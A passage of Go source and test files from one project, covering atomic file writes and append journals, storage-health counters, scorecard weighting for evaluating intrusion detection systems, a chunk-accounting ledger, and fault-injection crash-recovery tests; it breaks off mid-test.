	// directory, so a degraded filesystem is visible.
	if serr := d.Sync(); serr != nil {
		noteDirSyncError(dir, serr)
	}
	return nil
}
