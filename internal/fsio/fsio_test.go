package fsio

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestWriteAtomicReplacesWholeFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.txt")
	if err := os.WriteFile(path, []byte("old contents"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteAtomic(path, func(w io.Writer) error {
		_, err := io.WriteString(w, "new contents")
		return err
	}); err != nil {
		t.Fatalf("WriteAtomic: %v", err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "new contents" {
		t.Fatalf("got %q", got)
	}
	assertNoStrays(t, dir)
}

func TestWriteAtomicFailureLeavesOriginal(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.txt")
	if err := os.WriteFile(path, []byte("precious"), 0o644); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("boom")
	err := WriteAtomic(path, func(w io.Writer) error {
		io.WriteString(w, "half a file and then")
		return boom
	})
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want boom", err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "precious" {
		t.Fatalf("failed write corrupted the destination: %q", got)
	}
	assertNoStrays(t, dir)
}

func TestAtomicFileAbortIsInvisible(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "trace.idt2")
	af, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := af.Write([]byte("partial stream")); err != nil {
		t.Fatal(err)
	}
	af.Abort()
	af.Abort() // idempotent
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Fatalf("aborted write left destination: %v", err)
	}
	assertNoStrays(t, dir)
}

func TestAtomicFileCommitThenAbortIsNoop(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "x")
	af, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	af.Write([]byte("done"))
	if err := af.Commit(); err != nil {
		t.Fatal(err)
	}
	af.Abort()
	got, err := os.ReadFile(path)
	if err != nil || string(got) != "done" {
		t.Fatalf("got %q, %v", got, err)
	}
}

func TestAppendFileDurableLines(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "journal.jsonl")
	a, err := OpenAppend(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"one\n", "two\n"} {
		if err := a.Append([]byte(line)); err != nil {
			t.Fatal(err)
		}
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	// Reopen and append more — O_APPEND, not truncate.
	a, err = OpenAppend(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Append([]byte("three\n")); err != nil {
		t.Fatal(err)
	}
	a.Close()
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "one\ntwo\nthree\n" {
		t.Fatalf("journal = %q", got)
	}
}

// assertNoStrays fails if any temp file survived in dir.
func assertNoStrays(t *testing.T, dir string) {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		if strings.Contains(e.Name(), ".tmp-") {
			t.Fatalf("stray temp file %s", e.Name())
		}
	}
}

// The VFS seam must be free on the hot path: an append through the OS
// passthrough performs exactly the write and fsync syscalls, with zero
// allocations added by the interface indirection. This is the contract
// that lets every spool and journal write carry the fault-injection
// seam permanently.
func TestPassthroughAppendZeroAllocs(t *testing.T) {
	a, err := OpenAppendFS(OS, filepath.Join(t.TempDir(), "hot.log"))
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	rec := []byte("one-journal-record\n")
	if err := a.Append(rec); err != nil { // warm any lazy state
		t.Fatal(err)
	}
	allocs := testing.AllocsPerRun(50, func() {
		if err := a.Append(rec); err != nil {
			t.Fatal(err)
		}
	})
	if allocs != 0 {
		t.Fatalf("append through the VFS seam allocates %.1f/op, want 0", allocs)
	}
}

// CleanStrayTemps removes exactly the atomic-write temp pattern and
// nothing else.
func TestCleanStrayTemps(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{".result.json.tmp-123", ".plan.json.tmp-9", "keep.json", ".hidden", "tmp-notdot"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if n := CleanStrayTemps(OS, dir); n != 2 {
		t.Fatalf("removed %d, want 2", n)
	}
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var left []string
	for _, e := range ents {
		left = append(left, e.Name())
	}
	if len(left) != 3 {
		t.Fatalf("left %v, want the 3 non-temp files", left)
	}
	if n := CleanStrayTemps(OS, filepath.Join(dir, "missing")); n != 0 {
		t.Fatalf("missing dir removed %d", n)
	}
}
