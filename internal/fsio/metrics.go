package fsio

import (
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
)

// Stats is a point-in-time copy of fsio's process-wide storage-health
// counters. internal/obs (which imports this package — the dependency
// points that way, so fsio cannot hold obs instruments itself) renders
// them as fsio.* counters on every /metrics scrape via
// obs.FSIOSnapshot.
type Stats struct {
	// DirSyncErrors counts directory fsyncs that failed and were
	// tolerated. A nonzero value means renames are atomic but their
	// durability across power loss is not guaranteed by the filesystem.
	DirSyncErrors uint64
	// AppendRepairs counts failed appends whose partial record was
	// truncated away so the journal stayed record-aligned.
	AppendRepairs uint64
	// FaultsInjected counts faults fired by an injecting FS (faultfs);
	// always zero in production.
	FaultsInjected uint64
}

var stats struct {
	dirSyncErrors  atomic.Uint64
	appendRepairs  atomic.Uint64
	faultsInjected atomic.Uint64
}

// ReadStats snapshots the process-wide counters.
func ReadStats() Stats {
	return Stats{
		DirSyncErrors:  stats.dirSyncErrors.Load(),
		AppendRepairs:  stats.appendRepairs.Load(),
		FaultsInjected: stats.faultsInjected.Load(),
	}
}

// NoteFault is called by fault-injecting FS implementations each time
// a scheduled fault fires, so injected faults are visible on /metrics
// next to the recovery counters they trigger.
func NoteFault() { stats.faultsInjected.Add(1) }

// warn is where degraded-filesystem warnings go: stderr by default.
// Guarded by warnMu; SetWarnLog redirects (tests, the torture matrix).
var (
	warnMu  sync.Mutex
	warnLog io.Writer = os.Stderr

	dirSyncLogged sync.Map // dir -> struct{}: log once per directory
)

// SetWarnLog redirects fsio's once-per-directory degradation warnings
// (nil restores stderr) and returns the previous writer.
func SetWarnLog(w io.Writer) io.Writer {
	warnMu.Lock()
	defer warnMu.Unlock()
	prev := warnLog
	if w == nil {
		w = os.Stderr
	}
	warnLog = w
	return prev
}

func noteDirSyncError(dir string, err error) {
	stats.dirSyncErrors.Add(1)
	if _, loaded := dirSyncLogged.LoadOrStore(dir, struct{}{}); loaded {
		return
	}
	warnMu.Lock()
	fmt.Fprintf(warnLog, "fsio: directory sync %s: %v (tolerated; reported once per directory — renames there may not survive power loss)\n", dir, err)
	warnMu.Unlock()
}

func noteAppendRepair() { stats.appendRepairs.Add(1) }
