package requirements

import (
	"bytes"
	"math"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/core"
)

func reg(t testing.TB) *core.Registry {
	t.Helper()
	return core.StandardRegistry()
}

func TestAssignOrdinalWeights(t *testing.T) {
	reqs := AssignOrdinalWeights([][]string{
		{"least-a", "least-b"}, // group 1
		{"mid"},                // group 2
		{"most"},               // group 3
	})
	if len(reqs) != 4 {
		t.Fatalf("got %d requirements", len(reqs))
	}
	if reqs[0].Weight != 1 || reqs[1].Weight != 1 {
		t.Fatal("first group must share the lowest weight (duplicates allowed)")
	}
	if reqs[2].Weight != 2 || reqs[3].Weight != 3 {
		t.Fatalf("weights = %v, %v", reqs[2].Weight, reqs[3].Weight)
	}
}

func TestValidateOrderingEnforced(t *testing.T) {
	r := reg(t)
	bad := &Set{Requirements: []Requirement{
		{Name: "most", Weight: 3, Contributes: []string{core.MTimeliness}},
		{Name: "least", Weight: 1, Contributes: []string{core.MTimeliness}},
	}}
	if err := bad.Validate(r); err == nil {
		t.Fatal("descending weights accepted")
	}
	dup := &Set{Requirements: []Requirement{
		{Name: "a", Weight: 2, Contributes: []string{core.MTimeliness}},
		{Name: "b", Weight: 2, Contributes: []string{core.MObservedFNRatio}},
	}}
	if err := dup.Validate(r); err != nil {
		t.Fatalf("duplicate weights rejected (partial order allows them): %v", err)
	}
}

func TestValidateRejectsUnknownMetricAndEmpty(t *testing.T) {
	r := reg(t)
	if err := (&Set{}).Validate(r); err == nil {
		t.Fatal("empty set accepted")
	}
	bad := &Set{Requirements: []Requirement{{Name: "x", Weight: 1, Contributes: []string{"nope"}}}}
	if err := bad.Validate(r); err == nil {
		t.Fatal("unknown metric accepted")
	}
	bad2 := &Set{Requirements: []Requirement{{Name: "x", Weight: 1}}}
	if err := bad2.Validate(r); err == nil {
		t.Fatal("contribution-free requirement accepted")
	}
	bad3 := &Set{Requirements: []Requirement{{Weight: 1, Contributes: []string{core.MTimeliness}}}}
	if err := bad3.Validate(r); err == nil {
		t.Fatal("nameless requirement accepted")
	}
}

func TestDeriveWeightsSumsContributions(t *testing.T) {
	r := reg(t)
	s := &Set{Requirements: []Requirement{
		{Name: "least", Weight: 1, Contributes: []string{core.MTimeliness}},
		{Name: "mid", Weight: 2.5, Contributes: []string{core.MTimeliness, core.MObservedFNRatio}},
		{Name: "most", Weight: 3, Contributes: []string{core.MObservedFNRatio}},
	}}
	w, err := DeriveWeights(s, r)
	if err != nil {
		t.Fatal(err)
	}
	if w[core.MTimeliness] != 3.5 {
		t.Fatalf("timeliness weight = %v, want 1+2.5", w[core.MTimeliness])
	}
	if w[core.MObservedFNRatio] != 5.5 {
		t.Fatalf("fn-ratio weight = %v, want 2.5+3", w[core.MObservedFNRatio])
	}
	if w[core.MOutsourcedSolution] != 0 {
		t.Fatal("untouched metric must get weight 0")
	}
	if len(w) != r.Len() {
		t.Fatalf("weights cover %d of %d metrics", len(w), r.Len())
	}
}

func TestFigure6Example(t *testing.T) {
	r := reg(t)
	s, w, err := Figure6Example(r)
	if err != nil {
		t.Fatal(err)
	}
	// The paper's published requirement weights.
	if s.Requirements[0].Weight != 1 || s.Requirements[1].Weight != 2.5 || s.Requirements[2].Weight != 3 {
		t.Fatalf("requirement weights = %v", s.Requirements)
	}
	// Shared metric gets the sum of both contributors.
	if w[core.MSystemThroughput] != 5.5 {
		t.Fatalf("system-throughput = %v, want 2.5+3", w[core.MSystemThroughput])
	}
	if w[core.MDistributedManagement] != 1 || w[core.MTimeliness] != 3 {
		t.Fatalf("weights = dm:%v t:%v", w[core.MDistributedManagement], w[core.MTimeliness])
	}
	// Zero-weight metrics exist (Figure 6 shows 0-weighted metrics).
	zeros := 0
	for _, v := range w {
		if v == 0 {
			zeros++
		}
	}
	if zeros == 0 {
		t.Fatal("no zero-weight metrics")
	}
}

func TestPostureSetsValid(t *testing.T) {
	r := reg(t)
	for _, s := range []*Set{RealTimeEmphasis(), DistributedEmphasis()} {
		if err := s.Validate(r); err != nil {
			t.Fatal(err)
		}
		w, err := DeriveWeights(s, r)
		if err != nil {
			t.Fatal(err)
		}
		if len(SortedNonZero(w)) < 4 {
			t.Fatal("posture weighted too few metrics")
		}
	}
}

func TestDistributedEmphasisPrioritizesFNRatio(t *testing.T) {
	r := reg(t)
	w, err := DeriveWeights(DistributedEmphasis(), r)
	if err != nil {
		t.Fatal(err)
	}
	// "Distributed systems … should put emphasis on reducing the false
	// negative ratio to the lowest possible level."
	top := SortedNonZero(w)[0]
	if top != core.MObservedFNRatio {
		t.Fatalf("heaviest metric = %q, want observed-false-negative-ratio", top)
	}
	if w[core.MObservedFNRatio] <= w[core.MObservedFPRatio] {
		t.Fatal("FN ratio must outweigh FP ratio in the distributed posture")
	}
}

func TestRealTimeEmphasisPrioritizesSpeedAndReaction(t *testing.T) {
	r := reg(t)
	w, err := DeriveWeights(RealTimeEmphasis(), r)
	if err != nil {
		t.Fatal(err)
	}
	// Timeliness contributes to both weight-3 requirements.
	if w[core.MTimeliness] != 6 {
		t.Fatalf("timeliness weight = %v, want 6", w[core.MTimeliness])
	}
	if w[core.MFirewallInteraction] <= w[core.MDistributedManagement] {
		t.Fatal("reaction must outweigh logistics in the real-time posture")
	}
}

func TestJSONRoundTrip(t *testing.T) {
	s := RealTimeEmphasis()
	var buf bytes.Buffer
	if err := s.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Requirements) != len(s.Requirements) {
		t.Fatalf("%d requirements, want %d", len(got.Requirements), len(s.Requirements))
	}
	for i := range s.Requirements {
		if got.Requirements[i].Name != s.Requirements[i].Name ||
			got.Requirements[i].Weight != s.Requirements[i].Weight {
			t.Fatalf("requirement %d mismatch", i)
		}
	}
	if _, err := ReadJSON(strings.NewReader("{broken")); err == nil {
		t.Fatal("broken JSON accepted")
	}
}

func TestDescribeListsEveryRequirement(t *testing.T) {
	s := DistributedEmphasis()
	d := s.Describe()
	for _, r := range s.Requirements {
		if !strings.Contains(d, r.Name) {
			t.Fatalf("description missing %q", r.Name)
		}
	}
}

func TestSortedNonZeroOrder(t *testing.T) {
	w := core.Weights{"a": 1, "b": 5, "c": 0, "d": 5}
	got := SortedNonZero(w)
	if len(got) != 3 {
		t.Fatalf("got %v", got)
	}
	if got[0] != "b" || got[1] != "d" || got[2] != "a" {
		t.Fatalf("order = %v", got)
	}
}

// Property: derived metric weight equals the sum over requirements that
// list it, for arbitrary contribution patterns.
func TestPropertyDeriveWeightsIsSum(t *testing.T) {
	r := reg(t)
	all := r.All()
	f := func(pattern []uint16, weightsRaw []uint8) bool {
		if len(pattern) == 0 {
			return true
		}
		var s Set
		prev := 0.0
		for i, p := range pattern {
			if i >= 6 {
				break
			}
			wt := prev
			if i < len(weightsRaw) {
				wt = prev + float64(weightsRaw[i]%4)
			}
			prev = wt
			m1 := all[int(p)%len(all)].ID
			m2 := all[int(p>>8)%len(all)].ID
			s.Requirements = append(s.Requirements, Requirement{
				Name: "r", Weight: wt, Contributes: []string{m1, m2},
			})
		}
		w, err := DeriveWeights(&s, r)
		if err != nil {
			return false
		}
		// Recompute independently.
		want := make(map[string]float64)
		for _, rq := range s.Requirements {
			for _, id := range rq.Contributes {
				want[id] += rq.Weight
			}
		}
		for id, v := range want {
			if math.Abs(w[id]-v) > 1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}
