// Package requirements implements Section 3.3 of the paper: deriving
// scorecard weights from formalized user requirements. The user lists
// requirements in a partial order from least to most important, assigns
// the least important the lowest weight, weights the rest in proportion
// to relative importance (duplicates allowed, since the order is
// partial), and then each metric's weight is the sum of the weights of
// the requirements it contributes to (Figure 6).
package requirements

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"

	"repro/internal/core"
)

// Requirement is one formalized user requirement.
type Requirement struct {
	// Name states the requirement, in positive form where possible
	// ("Requirements should be stated in positive form … to reduce
	// unnecessary negative weights").
	Name string
	// Weight is the importance weight assigned after ordering.
	Weight float64
	// Contributes lists the metric IDs this requirement maps onto.
	Contributes []string
}

// Negative marks requirements that express a counterproductive feature;
// their weight applies negatively (the paper's escape hatch when a
// requirement cannot be converted to positive form).
type Set struct {
	// Requirements in partial order, least important first.
	Requirements []Requirement
}

// Validate checks weights are positive-ordered and all contributed
// metrics exist in the registry.
func (s *Set) Validate(reg *core.Registry) error {
	if len(s.Requirements) == 0 {
		return fmt.Errorf("requirements: empty set")
	}
	prev := 0.0
	for i, r := range s.Requirements {
		if r.Name == "" {
			return fmt.Errorf("requirements: requirement %d has no name", i)
		}
		if r.Weight < prev {
			return fmt.Errorf("requirements: %q (weight %v) breaks the least-to-most ordering (previous %v)",
				r.Name, r.Weight, prev)
		}
		prev = r.Weight
		if len(r.Contributes) == 0 {
			return fmt.Errorf("requirements: %q contributes to no metrics", r.Name)
		}
		for _, id := range r.Contributes {
			if _, ok := reg.Get(id); !ok {
				return fmt.Errorf("requirements: %q contributes to unknown metric %q", r.Name, id)
			}
		}
	}
	return nil
}

// AssignOrdinalWeights implements the suggested algorithm's first half:
// given requirement names grouped by importance (least important group
// first), assign weight 1 to the first group, 2 to the second, and so on.
// Duplicate weights within a group reflect the partial ordering.
func AssignOrdinalWeights(groups [][]string) []Requirement {
	var out []Requirement
	for gi, group := range groups {
		for _, name := range group {
			out = append(out, Requirement{Name: name, Weight: float64(gi + 1)})
		}
	}
	return out
}

// DeriveWeights implements the second half: "each metric is assigned a
// weight equal to the sum of the weights of the requirements it
// contributes to." Metrics no requirement touches get weight zero, which
// Evaluate treats as excluded.
func DeriveWeights(s *Set, reg *core.Registry) (core.Weights, error) {
	if err := s.Validate(reg); err != nil {
		return nil, err
	}
	w := make(core.Weights)
	for _, m := range reg.All() {
		w[m.ID] = 0
	}
	for _, r := range s.Requirements {
		for _, id := range r.Contributes {
			w[id] += r.Weight
		}
	}
	return w, nil
}

// RealTimeEmphasis returns the paper's recommended weighting posture for
// real-time systems: "emphasis should be placed on speed and accuracy of
// attack recognition and on the ability of the IDS to automatically react
// via firewall, router, SNMP, etc."
func RealTimeEmphasis() *Set {
	return &Set{Requirements: []Requirement{
		{
			Name: "Manageable across the cluster", Weight: 1,
			Contributes: []string{core.MDistributedManagement, core.MEaseOfConfiguration, core.MMultiSensorSupport},
		},
		{
			Name: "No interference with real-time deadlines", Weight: 2,
			Contributes: []string{core.MOperationalImpact, core.MInducedLatency, core.MPlatformRequirements},
		},
		{
			Name: "Keeps up with cluster traffic", Weight: 2,
			Contributes: []string{core.MSystemThroughput, core.MZeroLossThroughput, core.MScalableLoadBalancing, core.MNetworkLethalDose},
		},
		{
			Name: "Automatic near-real-time reaction", Weight: 3,
			Contributes: []string{core.MFirewallInteraction, core.MRouterInteraction, core.MSNMPInteraction, core.MTimeliness},
		},
		{
			Name: "Fast, accurate attack recognition", Weight: 3,
			Contributes: []string{core.MTimeliness, core.MObservedFNRatio, core.MObservedFPRatio, core.MAdjustableSensitivity},
		},
	}}
}

// DistributedEmphasis returns the paper's posture for high-trust
// distributed systems: "emphasis on reducing the false negative ratio to
// the lowest possible level accepting an increased false positive alert
// ratio in the process. Logging of historical traffic is also key."
func DistributedEmphasis() *Set {
	return &Set{Requirements: []Requirement{
		{
			Name: "Tolerate extra false alarms", Weight: 1,
			Contributes: []string{core.MAdjustableSensitivity},
		},
		{
			Name: "Historical logging for post-hoc unraveling", Weight: 2,
			Contributes: []string{core.MDataStorage, core.MAnalysisOfCompromise},
		},
		{
			Name: "Catch the initial compromise and isolate it", Weight: 3,
			Contributes: []string{core.MTimeliness, core.MFirewallInteraction, core.MHostBased, core.MMultiSensorSupport},
		},
		{
			Name: "Lowest possible false negative ratio", Weight: 4,
			Contributes: []string{core.MObservedFNRatio},
		},
	}}
}

// Figure6Example reconstructs the paper's requirement-to-metric weighting
// illustration: three requirements with weights 1, 2.5, and 3 mapping
// onto seven metrics, where mapped metrics receive the sum of their
// contributors' weights and untouched metrics receive 0. (The figure's
// exact arrows are not recoverable from the text, so the mapping below is
// a faithful instance of the algorithm with the published requirement
// weights; EXPERIMENTS.md records this substitution.)
func Figure6Example(reg *core.Registry) (*Set, core.Weights, error) {
	s := &Set{Requirements: []Requirement{
		{
			Name: "Central administration", Weight: 1,
			Contributes: []string{core.MDistributedManagement},
		},
		{
			Name: "No performance interference", Weight: 2.5,
			Contributes: []string{core.MOperationalImpact, core.MInducedLatency, core.MSystemThroughput},
		},
		{
			Name: "Prompt, accurate detection", Weight: 3,
			Contributes: []string{core.MTimeliness, core.MObservedFNRatio, core.MSystemThroughput},
		},
	}}
	w, err := DeriveWeights(s, reg)
	if err != nil {
		return nil, nil, err
	}
	return s, w, nil
}

// ---- JSON interchange for cmd/scorecard ----

type setJSON struct {
	Requirements []reqJSON `json:"requirements"`
}

type reqJSON struct {
	Name        string   `json:"name"`
	Weight      float64  `json:"weight"`
	Contributes []string `json:"contributes"`
}

// WriteJSON serializes the set.
func (s *Set) WriteJSON(w io.Writer) error {
	out := setJSON{}
	for _, r := range s.Requirements {
		out.Requirements = append(out.Requirements, reqJSON(r))
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// ReadJSON parses a requirement set.
func ReadJSON(r io.Reader) (*Set, error) {
	var in setJSON
	if err := json.NewDecoder(r).Decode(&in); err != nil {
		return nil, fmt.Errorf("requirements: parsing: %w", err)
	}
	s := &Set{}
	for _, rq := range in.Requirements {
		s.Requirements = append(s.Requirements, Requirement(rq))
	}
	return s, nil
}

// Describe renders the set as an indented list for reports.
func (s *Set) Describe() string {
	var b strings.Builder
	for _, r := range s.Requirements {
		fmt.Fprintf(&b, "  %-45s w=%-4g -> %s\n", r.Name, r.Weight, strings.Join(r.Contributes, ", "))
	}
	return b.String()
}

// SortedNonZero returns the metric IDs with nonzero derived weight,
// heaviest first (for report rendering).
func SortedNonZero(w core.Weights) []string {
	var ids []string
	for id, v := range w {
		if v != 0 {
			ids = append(ids, id)
		}
	}
	sort.Slice(ids, func(i, j int) bool {
		if w[ids[i]] != w[ids[j]] {
			return w[ids[i]] > w[ids[j]]
		}
		return ids[i] < ids[j]
	})
	return ids
}
