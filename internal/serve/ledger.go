package serve

import (
	"fmt"
	"sync"
	"time"

	"repro/internal/obs"
)

// ShedReason classifies why accepted-but-undelivered chunks were
// dropped. Every shed chunk lands in exactly one reason.
type ShedReason string

const (
	// ShedIdle: the stream hit its idle deadline before finishing.
	ShedIdle ShedReason = "idle"
	// ShedOverload: the spool budget forced out the oldest idle stream.
	ShedOverload ShedReason = "overload"
	// ShedProtocol: the client violated the protocol (count mismatch,
	// unrecoverable ack-journal corruption).
	ShedProtocol ShedReason = "protocol"
	// ShedCorrupt: the assembled spool failed IDT2 validation at finish.
	ShedCorrupt ShedReason = "corrupt"
)

var shedReasons = []ShedReason{ShedIdle, ShedOverload, ShedProtocol, ShedCorrupt}

// Counts is a point-in-time view of the chunk ledger.
type Counts struct {
	// Submitted counts every data chunk presented to the service —
	// including chunks restored into accounting from disk at startup.
	Submitted uint64 `json:"submitted"`
	// Delivered chunks belong to a finished stream handed to the
	// evaluator; delivery is the ingest contract, independent of the
	// evaluation's later verdict.
	Delivered uint64 `json:"delivered"`
	// Rejected chunks were refused synchronously (backpressure,
	// draining, protocol violation); the client was told immediately.
	Rejected uint64 `json:"rejected"`
	// Duplicate chunks were retransmissions of already-accepted
	// ordinals, re-acked without spooling.
	Duplicate uint64 `json:"duplicate"`
	// Pending chunks are accepted and durable but their stream has not
	// finished; they will end as delivered or shed.
	Pending uint64 `json:"pending"`
	// Shed chunks were accepted, then dropped with their stream.
	Shed map[ShedReason]uint64 `json:"shed"`
}

// ShedTotal sums all shed reasons.
func (c Counts) ShedTotal() uint64 {
	var n uint64
	for _, v := range c.Shed {
		n += v
	}
	return n
}

// Check verifies the exact-accounting invariant: every submitted chunk
// is in exactly one of pending, delivered, rejected, duplicate, or a
// shed counter.
func (c Counts) Check() error {
	sum := c.Delivered + c.Rejected + c.Duplicate + c.Pending + c.ShedTotal()
	if sum != c.Submitted {
		return fmt.Errorf("serve: chunk accounting violated: submitted %d != delivered %d + rejected %d + duplicate %d + pending %d + shed %d",
			c.Submitted, c.Delivered, c.Rejected, c.Duplicate, c.Pending, c.ShedTotal())
	}
	return nil
}

// Ledger is the service's exact shed-accounting book. Every state
// transition is atomic under one mutex — a chunk is never in two
// classes, and Counts always satisfies Check. The ledger additionally
// mirrors itself into an obs registry (serve.chunks.*) and keeps a
// short per-second shed window for the /healthz degraded signal.
type Ledger struct {
	reg *obs.Registry // nil: no telemetry

	mu        sync.Mutex
	submitted uint64
	delivered uint64
	rejected  uint64
	duplicate uint64
	pending   uint64
	shed      map[ShedReason]uint64

	// buckets is a ring of per-second shed counts for ShedRecent.
	buckets [16]shedBucket
}

type shedBucket struct {
	sec int64
	n   uint64
}

func newLedger(reg *obs.Registry) *Ledger {
	l := &Ledger{reg: reg, shed: map[ShedReason]uint64{}}
	if reg != nil {
		// Pre-register the full family so /metrics shows explicit zeros
		// from the first scrape.
		for _, name := range []string{"serve.chunks.submitted", "serve.chunks.delivered",
			"serve.chunks.rejected", "serve.chunks.duplicate"} {
			reg.Counter(name)
		}
		for _, r := range shedReasons {
			reg.Counter("serve.chunks.shed." + string(r))
		}
		reg.Gauge("serve.chunks.pending")
	}
	return l
}

func (l *Ledger) count(name string, n uint64) {
	if l.reg != nil && n > 0 {
		l.reg.Counter(name).Add(n)
	}
}

func (l *Ledger) setPendingGauge() {
	if l.reg != nil {
		l.reg.Gauge("serve.chunks.pending").Set(int64(l.pending))
	}
}

// Accept books n submitted chunks directly into pending.
func (l *Ledger) Accept(n uint64) {
	l.mu.Lock()
	l.submitted += n
	l.pending += n
	l.setPendingGauge()
	l.mu.Unlock()
	l.count("serve.chunks.submitted", n)
}

// Reject books n submitted chunks refused synchronously.
func (l *Ledger) Reject(n uint64) {
	l.mu.Lock()
	l.submitted += n
	l.rejected += n
	l.mu.Unlock()
	l.count("serve.chunks.submitted", n)
	l.count("serve.chunks.rejected", n)
}

// Duplicate books n submitted chunks that were retransmissions.
func (l *Ledger) Duplicate(n uint64) {
	l.mu.Lock()
	l.submitted += n
	l.duplicate += n
	l.mu.Unlock()
	l.count("serve.chunks.submitted", n)
	l.count("serve.chunks.duplicate", n)
}

// Deliver moves n chunks from pending to delivered (stream finished).
func (l *Ledger) Deliver(n uint64) {
	l.mu.Lock()
	l.pending -= min64(n, l.pending)
	l.delivered += n
	l.setPendingGauge()
	l.mu.Unlock()
	l.count("serve.chunks.delivered", n)
}

// Shed moves n chunks from pending into the reason's shed counter and
// stamps the degraded-signal window.
func (l *Ledger) Shed(reason ShedReason, n uint64) {
	now := time.Now().Unix()
	l.mu.Lock()
	l.pending -= min64(n, l.pending)
	l.shed[reason] += n
	idx := now % int64(len(l.buckets))
	if l.buckets[idx].sec != now {
		l.buckets[idx] = shedBucket{sec: now}
	}
	l.buckets[idx].n += n
	l.setPendingGauge()
	l.mu.Unlock()
	l.count("serve.chunks.shed."+string(reason), n)
}

// Restore books n chunks recovered from disk at startup into class
// (pending for an unfinished spool, delivered for a finished one, or a
// shed reason for a tombstoned stream), keeping the invariant valid
// across restarts.
func (l *Ledger) Restore(n uint64, pending bool, delivered bool, reason ShedReason) {
	l.mu.Lock()
	l.submitted += n
	switch {
	case pending:
		l.pending += n
	case delivered:
		l.delivered += n
	default:
		l.shed[reason] += n
	}
	l.setPendingGauge()
	l.mu.Unlock()
	l.count("serve.chunks.submitted", n)
	if delivered {
		l.count("serve.chunks.delivered", n)
	}
}

// Counts snapshots the ledger.
func (l *Ledger) Counts() Counts {
	l.mu.Lock()
	defer l.mu.Unlock()
	shed := make(map[ShedReason]uint64, len(l.shed))
	for k, v := range l.shed {
		shed[k] = v
	}
	return Counts{
		Submitted: l.submitted, Delivered: l.delivered, Rejected: l.rejected,
		Duplicate: l.duplicate, Pending: l.pending, Shed: shed,
	}
}

// ShedRecent returns how many chunks were shed within the trailing
// window (granularity one second, window capped at the ring size).
func (l *Ledger) ShedRecent(window time.Duration) uint64 {
	now := time.Now().Unix()
	floor := now - int64(window/time.Second)
	l.mu.Lock()
	defer l.mu.Unlock()
	var n uint64
	for _, b := range l.buckets {
		if b.sec > floor && b.sec <= now {
			n += b.n
		}
	}
	return n
}

func min64(a, b uint64) uint64 {
	if a < b {
		return a
	}
	return b
}
