package serve_test

// Pinned regression schedules from cmd/crashtorture. Each test replays
// one exact fault schedule that exposed (or guards) a recovery bug:
//
//   - the shed crash window: removing the spool before the tombstone
//     committed silently destroyed acked chunks across a crash;
//   - tombstone-write failure: shedding must keep the stream resumable
//     when the tombstone cannot be written;
//   - a torn tail in the spool itself (not the ack journal): resume
//     must trim the ack journal to the spool-covered prefix and never
//     double-deliver;
//   - finish.json committed but the evaluation never journaled: the
//     stream re-queues and delivers exactly once;
//   - crash mid-commit: recovery sweeps the stranded atomic-write temp
//     files.

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"repro/internal/fsio/faultfs"
	"repro/internal/serve"
)

// shedService opens a service with a spool budget small enough that a
// second stream's first chunk sheds the idle victim.
func shedService(t *testing.T, dir string, fs *faultfs.FS) *serve.Service {
	t.Helper()
	return openService(t, dir, func(c *serve.Config) {
		c.EvalWorkers = -1
		c.MaxSpoolBytes = 2500
		c.RetryAfter = time.Millisecond
		if fs != nil {
			c.FS = fs
		}
	})
}

// spoolTwoThenOverflow uploads two 1000-byte chunks on "victim", then
// lets "noisy" overflow the 2500-byte budget so the service sheds the
// idle victim. Returns the error from the overflowing accept.
func spoolTwoThenOverflow(t *testing.T, svc *serve.Service) error {
	t.Helper()
	chunk := bytes.Repeat([]byte{0xAB}, 1000)
	if _, err := svc.Hello(quickMeta("victim")); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		if _, err := svc.Accept("victim", uint32(i), chunk); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := svc.Hello(quickMeta("noisy")); err != nil {
		t.Fatal(err)
	}
	_, err := svc.Accept("noisy", 0, chunk)
	return err
}

// TestShedCrashBetweenTombstoneAndRemovals pins the shed commit
// discipline: the tombstone is the commit point, so a crash between
// writing it and removing the spool must recover as a fully accounted
// shed, with recovery finishing the removals.
func TestShedCrashBetweenTombstoneAndRemovals(t *testing.T) {
	dir := t.TempDir()
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpRemove, Path: "victim", N: 1, Crash: true})
